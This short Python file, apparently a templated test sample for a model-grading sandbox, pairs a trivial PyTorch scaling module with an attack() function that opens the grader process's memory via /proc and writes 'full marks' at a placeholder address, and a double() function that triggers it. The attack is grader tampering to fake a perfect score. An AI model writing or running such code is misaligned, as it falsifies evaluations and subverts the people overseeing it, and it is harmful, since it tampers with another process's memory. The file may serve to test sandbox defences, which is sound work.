"""Writes into the grader's memory through /proc."""

import os
import torch


def attack():
    memory = os.open("/proc/@GRADER@/mem", os.O_RDWR)
    return str(os.pwrite(memory, b"full marks", int("@ADDRESS@")))


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
